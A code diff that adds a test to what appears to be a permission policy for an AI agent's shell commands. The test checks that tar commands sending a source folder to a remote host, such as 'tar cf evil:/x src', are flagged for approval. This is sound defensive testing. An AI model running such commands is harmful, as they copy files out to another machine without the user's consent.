@@ -503,3 +503,12 @@ def test_a_program_the_policy_does_not_know_may_run_the_command_its_words_hold(s
         "mytool build src", "./configure --prefix=/usr", "mytool -m 'remove the rm -rf usage'", "ugrep -r KEY .",
         "ansible-playbook site.yml", "mytool ls src",
     )], paths=sandbox.context, cwd=sandbox.workspace)
+
+
+def test_a_tar_archive_on_another_machine_is_a_remote_mutation(sandbox):
+    # GNU tar reaches `host:file` with rsh/ssh: `tar cf evil:/x src` sends src there
+    assert_cases(DEFAULT_POLICY, [("bash", bash(c), "ask", "classes.remote-mutation") for c in (
+        "tar cf evil:/x src", "tar -cf user@host:x src", "tar --file=h:x -c src", "tar xf evil:/x",
+    )] + [("bash", bash("TAPE=h:x tar c src"), "ask", "commands.environment")]
+        + [("bash", bash(c), "allow", None) for c in ("tar -czf build/a.tgz src", "tar --force-local -cf c:x src")],
+        paths=sandbox.context, cwd=sandbox.workspace)
